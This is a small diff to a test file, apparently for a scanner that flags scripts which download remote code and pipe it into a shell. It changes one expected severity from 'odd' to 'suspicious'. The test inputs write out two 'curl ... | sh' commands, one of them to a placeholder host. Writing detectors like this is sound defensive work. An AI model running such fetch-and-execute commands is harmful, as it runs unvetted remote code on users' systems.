@@ -23,12 +23,12 @@ describe("download: fetch and run", () => {
     }
   });
 
-  it("only mentions the installers that everybody uses, and finds the skill's own odd at most", async () => {
+  it("only mentions the installers that everybody uses, and asks about what the skill calls its own", async () => {
     expect(await shell("curl -LsSf https://astral.sh/uv/install.sh | sh")).toEqual([
       "download.piped-to-runner note run.sh",
     ]);
     expect(await shell("curl -fsSL https://brightlake.example/i | sh", "Works with Brightlake.")).toEqual([
-      "download.piped-to-runner odd run.sh",
+      "download.piped-to-runner suspicious run.sh",
     ]);
   });
 
